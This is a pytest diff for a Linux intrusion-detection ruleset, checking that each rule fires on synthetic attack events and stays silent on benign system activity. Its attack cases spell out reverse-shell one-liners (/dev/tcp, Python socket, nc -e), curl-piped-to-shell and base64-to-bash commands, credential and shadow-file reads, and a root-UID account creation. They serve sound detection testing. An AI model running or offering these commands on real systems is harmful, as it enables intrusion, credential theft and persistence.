@@ -1,0 +1,296 @@
+"""The packaged default ruleset: every rule fires on a synthetic attack and stays quiet on benign activity.
+
+Each rule must have a case here (the test fails when a rule is added without one). Events are shaped like
+ravn_core/events.py; the process tree is built from exec events as the runtime would build it.
+"""
+
+from __future__ import annotations
+
+import re
+import time
+from typing import Any
+
+import pytest
+from ravn_analyzers.rules.engine import RulesAnalyzer, RulesConfig
+
+from ravn_core.components import Alert, BatchContext
+from ravn_core.proctree import ProcessTree
+from ravn_core.testing import make_context
+
+T0 = 1_700_000_000 * 10**9
+_pid = iter(range(1000, 10**6))
+
+
+def E(etype: str, comm: str = "bash", pid: int | None = None, ppid: int = 1, uid: int = 0, t: float = 0.0,
+      **fields: Any) -> dict[str, Any]:
+    e: dict[str, Any] = {"evt.type": etype, "evt.ts": T0 + int(t * 1e9), "proc.pid": pid or next(_pid),
+                         "proc.tid": 0, "proc.ppid": ppid, "proc.uid": uid, "proc.gid": 0, "proc.comm": comm}
+    e["proc.tid"] = e["proc.pid"]
+    e.update({k.replace("__", "."): v for k, v in fields.items()})
+    return e
+
+
+def X(path: str, *args: str, comm: str | None = None, **kw: Any) -> dict[str, Any]:
+    """An exec of ``path`` with argv ``[basename, *args]``."""
+    name = path.rsplit("/", 1)[-1]
+    return E("exec", comm=comm or name[:15], exec__filename=path, exec__argv=[name, *args], exec__ret=0,
+             exec__memfd=False, **kw)
+
+
+def Open(path: str, comm: str = "bash", write: bool = False, flags: int | None = None, **kw: Any) -> dict[str, Any]:
+    f = flags if flags is not None else (0o1101 if write else 0)
+    return E("open", comm=comm, file__path=path, file__flags=f, file__mode=0o644, file__ret=3, file__write=write, **kw)
+
+
+def C(daddr: str, dport: int, comm: str = "python3", **kw: Any) -> dict[str, Any]:
+    return E("connect", comm=comm, net__family="ipv4", net__proto="tcp", net__saddr="10.0.0.5", net__sport=40000,
+             net__daddr=daddr, net__dport=dport, net__fd=3, net__ret=0, **kw)
+
+
+def chain(*links: tuple[str, str]) -> list[dict[str, Any]]:
+    """Exec events building an ancestry: chain(("/usr/bin/apt", "apt"), ("/usr/bin/dpkg", "dpkg")) -> pids."""
+    out, ppid = [], 1
+    for path, comm in links:
+        ev = X(path, comm=comm, ppid=ppid)
+        out.append(ev)
+        ppid = ev["proc.pid"]
+    return out
+
+
+def under(parents: list[dict[str, Any]], ev: dict[str, Any]) -> list[dict[str, Any]]:
+    ev["proc.ppid"] = parents[-1]["proc.pid"]
+    return [*parents, ev]
+
+
+def _revshell() -> list[dict[str, Any]]:
+    pid = next(_pid)
+    return [C("127.0.0.1", 4444, comm="bash", pid=pid), E("dup", pid=pid, dup__oldfd=3, dup__newfd=0, dup__ret=0),
+            E("dup", pid=pid, dup__oldfd=3, dup__newfd=1, dup__ret=0), {**X("/bin/bash", "-i"), "proc.pid": pid}]
+
+
+def _same_pid(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    pid = next(_pid)
+    for e in events:
+        e["proc.pid"] = pid
+    return events
+
+
+def _burst(n: int, make: Any) -> list[dict[str, Any]]:
+    pid = next(_pid)
+    out = []
+    for i in range(n):
+        e = make(i)
+        e["proc.pid"] = pid
+        e["evt.ts"] += int(i * 0.01 * 1e9)
+        out.append(e)
+    return out
+
+
+def _discovery() -> list[dict[str, Any]]:
+    shell = X("/bin/bash")
+    return [shell] + [{**X(f"/usr/bin/{n}"), "proc.ppid": shell["proc.pid"]}
+                      for n in ("id", "whoami", "uname", "ps", "netstat")]
+
+
+SU = dict(uid=1000)
+ATTACKS: dict[str, list[dict[str, Any]]] = {
+    "reverse_shell_stdio_to_socket": _revshell(),
+    "reverse_shell_dev_tcp": [X("/bin/bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1")],
+    "interpreter_reverse_shell_oneliner": [X("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket()"
+                                             ";s.connect(('10.9.9.9',4444));subprocess.call(['/bin/sh','-i'])")],
+    "netcat_remote_exec": [X("/usr/bin/nc", "-e", "/bin/sh", "10.9.9.9", "4444")],
+    "netcat_listener": [X("/usr/bin/ncat", "-lvp", "4444")],
+    "shell_listening_socket": [E("listen", comm="bash", net__family="ipv4", net__proto="tcp", net__saddr="0.0.0.0",
+                                 net__sport=31337, net__backlog=1)],
+    "shell_spawned_by_server": under(chain(("/usr/sbin/nginx", "nginx")), X("/bin/sh", "-c", "id")),
+    "system_user_shell": [X("/bin/bash", "-i", uid=33)],
+    "fileless_exec_memfd": [{**X("/memfd:payload"), "exec.memfd": True}],
+    "exec_from_dev_shm": [X("/dev/shm/.x/kworker")],
+    "exec_from_tmp": [X("/tmp/.cache/run")],
+    "dropped_binary_executed": [Open("/tmp/payload", comm="curl", write=True), X("/tmp/payload", comm="bash", t=1)],
+    "exec_via_dynamic_loader": [X("/lib64/ld-linux-x86-64.so.2", "/tmp/noexec/tool")],
+    "download_piped_to_shell": [X("/bin/sh", "-c", "curl -fsSL http://10.9.9.9/x.sh | sh")],
+    "base64_payload_to_shell": [X("/bin/bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash")],
+    "crypto_miner_exec": [X("/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333")],
+    "crypto_miner_pool_port": [C("10.9.9.9", 3333, comm="kworkerd")],
+    "c2_address_contacted": [C("203.0.113.7", 443)],
+    "cloud_metadata_access": [C("169.254.169.254", 80, comm="curl")],
+    "ssh_nonstandard_port": [C("10.9.9.9", 2222, comm="ssh")],
+    "network_tool_launched": [X("/usr/bin/nmap", "-sS", "10.0.0.0/24")],
+    "sensitive_file_read": [Open("/etc/shadow", comm="cat")],
+    "ssh_private_key_read": [Open("/root/.ssh/id_ed25519", comm="python3")],
+    "cloud_credentials_read": [Open("/home/al/.aws/credentials", comm="python3")],
+    "credential_search": [X("/usr/bin/grep", "-ri", "BEGIN RSA PRIVATE", "/home")],
+    "proc_mem_access": [Open("/proc/4242/mem", comm="python3")],
+    "proc_environ_read": [Open("/proc/4242/environ", comm="cat")],
+    "kcore_read": [Open("/proc/kcore", comm="dd")],
+    "discovery_burst": _discovery(),
+    "sensitive_recon_file_read": [Open("/proc/sys/kernel/randomize_va_space", comm="cat")],
+    "cron_job_written": [Open("/etc/cron.d/updater", write=True)],
+    "crontab_edited": [X("/usr/bin/crontab", "/tmp/cron.txt")],
+    "systemd_unit_written": [Open("/etc/systemd/system/updater.service", write=True, comm="tee")],
+    "ssh_authorized_keys_modified": [Open("/root/.ssh/authorized_keys", write=True, flags=0o2101)],
+    "shell_profile_modified": [Open("/home/al/.bashrc", write=True, flags=0o2101)],
+    "ld_preload_file_modified": [Open("/etc/ld.so.preload", write=True)],
+    "loader_config_modified": [Open("/etc/ld.so.conf.d/x.conf", write=True)],
+    "dynamic_loader_replaced": [Open("/usr/lib64/ld-linux-x86-64.so.2", write=True, comm="cp")],
+    "user_account_tool": [X("/usr/sbin/useradd", "-o", "-u", "0", "svc")],
+    "account_database_modified": [Open("/etc/passwd", write=True, flags=0o2001)],
+    "sudoers_modified": [Open("/etc/sudoers.d/90-x", write=True, comm="tee")],
+    "kernel_module_load": [E("module", comm="python3", module__call="finit_module", module__name="", module__fd=3)],
+    "kernel_module_syscall": [E("syscall", comm="loader", syscall__nr=313, syscall__name="finit_module")],
+    "kernel_module_syscall_summary": [E("syscall_summary", comm="loader", syscall__counts={"finit_module": 1},
+                                        syscall__seq=[313], syscall__total=1)],
+    "kernel_module_tool": [X("/usr/sbin/insmod", "/tmp/rk.ko")],
+    "kernel_module_config_modified": [Open("/etc/modules-load.d/rk.conf", write=True)],
+    "package_repository_modified": [Open("/etc/apt/sources.list.d/evil.list", write=True, comm="tee")],
+    "setuid_bit_set": [E("chmod", comm="chmod", file__path="/usr/local/bin/helper", file__mode=0o4755, file__ret=0)],
+    "setuid_bit_in_writable_dir": [E("chmod", comm="chmod", file__path="/tmp/.sh", file__mode=0o4755, file__ret=0)],
+    "unexpected_setuid_root": [E("cred", comm="exploit", uid=1000, cred__call="setuid", cred__args=[0], cred__ret=0)],
+    "ptrace_attach": [E("ptrace", comm="python3", ptrace__request=16, ptrace__request_name="PTRACE_ATTACH",
+                        ptrace__target=4242, ptrace__ret=0)],
+    "ptrace_code_injection": [E("ptrace", comm="python3", ptrace__request=4, ptrace__request_name="PTRACE_POKETEXT",
+                                ptrace__target=4242, ptrace__ret=0)],
+    "ptrace_anti_debug": [E("ptrace", comm="packed", ptrace__request=0, ptrace__request_name="PTRACE_TRACEME",
+                            ptrace__target=0, ptrace__ret=0)],
+    "process_memory_write_syscall": [E("syscall", comm="inject", syscall__nr=311, syscall__name="process_vm_writev")],
+    "userfaultfd_by_unprivileged": [E("syscall", comm="exp", uid=1000, syscall__nr=323, syscall__name="userfaultfd")],
+    "bpf_program_load": [E("bpf", comm="python3", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")],
+    "write_below_binary_dir": [Open("/usr/bin/sshd2", write=True, comm="curl")],
+    "write_below_lib_dir": [Open("/usr/lib/x86_64-linux-gnu/libaudit.so.9", write=True, comm="curl")],
+    "write_below_etc": [Open("/etc/hosts", write=True, comm="python3")],
+    "system_binary_symlinked_over_sensitive": [E("symlink", file__path="/etc/shadow", file__newpath="/tmp/s",
+                                                 file__ret=0)],
+    "files_below_dev": [Open("/dev/.udev_cache", write=True)],
+    "log_file_cleared": [Open("/var/log/auth.log", write=True, flags=0o1001)],
+    "shell_history_tampered": [E("truncate", comm="truncate", file__path="/root/.bash_history", file__size=0,
+                                 file__ret=0)],
+    "mass_file_rename": _burst(30, lambda i: E("rename", comm="locker", file__path=f"/srv/data/f{i}.docx",
+                                              file__newpath=f"/srv/data/f{i}.docx.x", file__ret=0)),
+    "ransom_extension_rename": _burst(5, lambda i: E("rename", comm="locker", file__path=f"/srv/f{i}.pdf",
+                                                     file__newpath=f"/srv/f{i}.pdf.encrypted", file__ret=0)),
+    "data_wipe_tool": [X("/usr/bin/shred", "-u", "/srv/db.sqlite")],
+    "port_scan": _burst(20, lambda i: C("10.0.0.9", 1 + i)),
+    "host_sweep": _burst(30, lambda i: C(f"10.0.1.{i}", 22)),
+    "release_agent_write": [Open("/sys/fs/cgroup/rdma/x/release_agent", write=True)],
+    "core_pattern_write": [Open("/proc/sys/kernel/core_pattern", write=True, flags=1)],
+    "kernel_tunable_weakened": [Open("/proc/sys/kernel/randomize_va_space", write=True, flags=1)],
+    "cgroup_fs_mounted": [E("mount", comm="mount", mount__source="cgroup", mount__target="/tmp/cg",
+                            mount__fstype="cgroup", mount__flags=0, mount__ret=0)],
+    "host_device_mounted": under(chain(("/bin/bash", "bash")), E("mount", comm="mount", mount__source="/dev/sda1",
+                                 mount__target="/mnt/host", mount__fstype="ext4", mount__flags=0, mount__ret=0)),
+    "namespace_unshare": [E("unshare", comm="exploit", ns__flags=0x10000000, ns__ret=0)],
+    "namespace_setns": [E("setns", comm="python3", ns__fd=3, ns__flags=0x20000, ns__ret=0)],
+    "unshare_then_mount": _same_pid([E("unshare", comm="exploit", ns__flags=0x10020000, ns__ret=0),
+                                     E("mount", comm="exploit", mount__source="none", mount__target="/tmp/m",
+                                       mount__fstype="cgroup2", mount__flags=0, mount__ret=0, t=0.5)]),
+}
+ATTACKS["kernel_module_tool"][0]["exec.argv"] = ["insmod", "/tmp/rk.ko"]
+
+
+@pytest.fixture(scope="module")
+def analyzer() -> RulesAnalyzer:
+    cfg = RulesConfig(append_lists={"c2_addresses": ["203.0.113.7"]})
+    return RulesAnalyzer("analyzer_rules", cfg, make_context("rules"))
+
+
+def analyze(an: RulesAnalyzer, events: list[dict[str, Any]]) -> list[Alert]:
+    tree = ProcessTree()
+    tree.update(events)
+    return an.analyze(events, BatchContext("h", tree, time.time()))
+
+
+def test_ruleset_size_and_metadata(analyzer: RulesAnalyzer) -> None:
+    rules = analyzer.ruleset.rules
+    assert len(rules) >= 40
+    for r in rules:
+        assert any(re.match(r"^T\d{4}", t) for t in r.tags), f"{r.name} has no ATT&CK technique"
+        assert 0 < r.score <= 100
+        assert r.details or r.description
+
+
+def test_every_rule_has_an_attack_case(analyzer: RulesAnalyzer) -> None:
+    names = {r.name for r in analyzer.ruleset.rules}
+    assert names - set(ATTACKS) == set(), "add a case to ATTACKS for each new default rule"
+    assert set(ATTACKS) - names == set()
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_attack_fires_rule(analyzer: RulesAnalyzer, name: str) -> None:
+    alerts = analyze(analyzer, [dict(e) for e in ATTACKS[name]])
+    fired = {a.rule for a in alerts}
+    assert name in fired, f"{name} did not fire; fired: {sorted(fired)}"
+    alert = next(a for a in alerts if a.rule == name)
+    assert "?" not in alert.description.split(), alert.description  # every placeholder was filled
+
+
+def _benign() -> list[list[dict[str, Any]]]:
+    apt = chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg"))
+    dpkg_script = chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg"), ("/bin/sh", "sh"))
+    make = chain(("/bin/bash", "bash"), ("/usr/bin/make", "make"), ("/usr/bin/gcc", "gcc"))
+    ld = under(make, X("/usr/bin/ld", "-o", "/tmp/build/hello", comm="ld"))
+    run_built = under(chain(("/bin/bash", "bash"), ("/usr/bin/make", "make")), X("/tmp/build/hello", t=1))
+    sshd = chain(("/usr/sbin/sshd", "sshd"))
+    logrotate = chain(("/usr/sbin/cron", "cron"), ("/usr/sbin/logrotate", "logrotate"))
+    pip = chain(("/bin/bash", "bash"), ("/tmp/v/bin/python3", "python3"))
+    pip[-1]["exec.argv"] = ["python3", "-m", "pip", "install", "--no-index", "/tmp/w/pkg.whl"]
+    git = chain(("/bin/bash", "bash"), ("/usr/bin/git", "git"))
+    return [
+        under(apt, Open("/usr/bin/htop.dpkg-new", comm="dpkg", write=True)),
+        under(apt, E("rename", comm="dpkg", file__path="/usr/bin/htop.dpkg-new", file__newpath="/usr/bin/htop",
+                     file__ret=0)),
+        under(apt, Open("/etc/htoprc", comm="dpkg", write=True)),
+        under(apt, Open("/usr/lib/x86_64-linux-gnu/libfoo.so.1", comm="dpkg", write=True)),
+        under(apt, E("chmod", comm="dpkg", file__path="/usr/bin/sudo", file__mode=0o4755, file__ret=0)),
+        under(dpkg_script, X("/usr/sbin/useradd", "--system", "_htop")),
+        under(dpkg_script, Open("/etc/systemd/system/multi-user.target.wants/x.service", comm="sh", write=True)),
+        [Open("/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", comm="python3", write=True)],
+        under(sshd, Open("/etc/shadow", comm="sshd")),
+        [Open("/etc/shadow", comm="unix_chkpwd")],
+        [Open("/root/.ssh/id_ed25519", comm="ssh")],
+        [Open("/etc/passwd", comm="bash")],  # reading passwd is fine
+        [*ld, Open("/tmp/build/hello", comm="ld", write=True, ppid=ld[-1]["proc.ppid"])],
+        run_built,
+        under(sshd, E("cred", comm="sshd", uid=0, cred__call="setuid", cred__args=[1000], cred__ret=0)),
+        [E("cred", comm="sudo", uid=1000, cred__call="setresuid", cred__args=[0, 0, 0], cred__ret=0)],
+        under(logrotate, E("rename", comm="logrotate", file__path="/var/log/syslog", file__newpath="/var/log/syslog.1",
+                           file__ret=0)),
+        under(logrotate, E("unlink", comm="logrotate", file__path="/var/log/syslog.7.gz", file__ret=0)),
+        under(logrotate, Open("/var/log/syslog", comm="logrotate", write=True, flags=0o1001)),
+        [E("unlink", comm="bash", file__path="/var/log/app/old.log.3.gz", file__ret=0)],
+        under(pip, Open("/tmp/v/lib/python3.11/site-packages/pkg/__init__.py", comm="python3", write=True)),
+        _burst(40, lambda i: {**under(pip, E("rename", comm="python3", file__path=f"/tmp/v/lib/m{i}.pyc.123",
+                                             file__newpath=f"/tmp/v/lib/__pycache__/m{i}.pyc", file__ret=0))[-1]}),
+        _burst(10, lambda i: {**under(git, E("rename", comm="git", file__path="/tmp/r/.git/index.lock",
+                                             file__newpath="/tmp/r/.git/index", file__ret=0))[-1]}),
+        _burst(5, lambda i: C("140.82.121.4", 443, comm="git")),
+        [E("listen", comm="python3", net__family="ipv4", net__proto="tcp", net__saddr="127.0.0.1", net__sport=8000,
+           net__backlog=5)],
+        [X("/usr/bin/ssh-keygen", "-t", "ed25519", "-f", "/tmp/k/id", "-N", "")],
+        [X("/usr/bin/tar", "czf", "/tmp/a.tgz", "/tmp/src"), X("/usr/bin/gzip", "-d", "/tmp/b.gz")],
+        [X("/usr/bin/dpkg", "-l"), X("/usr/bin/apt-cache", "policy")],
+        [X("/usr/bin/uname", "-r"), X("/usr/bin/id", "-u")],  # two discovery commands is not a burst
+        [C("127.0.0.1", 6379, comm="redis-cli"), C("10.0.0.1", 53, comm="systemd-resolve")],
+        [Open("/etc/resolv.conf", comm="NetworkManager", write=True)],
+        [E("mount", comm="systemd", mount__source="cgroup2", mount__target="/sys/fs/cgroup", mount__fstype="cgroup2",
+           mount__flags=0, mount__ret=0)],
+        [E("bpf", comm="systemd", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")],
+        [E("ptrace", comm="strace", ptrace__request=16, ptrace__request_name="PTRACE_SEIZE", ptrace__target=4242,
+           ptrace__ret=0)],
+        [X("/bin/bash", "-c", "ls -la"), X("/bin/sh", "-c", "echo hello | tr a-z A-Z")],
+    ]
+
+
+def test_benign_activity_is_quiet(analyzer: RulesAnalyzer) -> None:
+    noisy = []
+    for events in _benign():
+        alerts = analyze(analyzer, [dict(e) for e in events])
+        noisy += [(a.rule, a.description) for a in alerts if a.score > 50]
+    # exec of a freshly built binary from /tmp by hand is the one known LOW signal; nothing MEDIUM or above
+    assert noisy == []
+
+
+def test_benign_low_signals_are_low(analyzer: RulesAnalyzer) -> None:
+    interactive_tmp = [X("/tmp/build/hello")]
+    alerts = analyze(analyzer, interactive_tmp)
+    assert [(a.rule, a.score) for a in alerts] == [("exec_from_tmp", 45)]
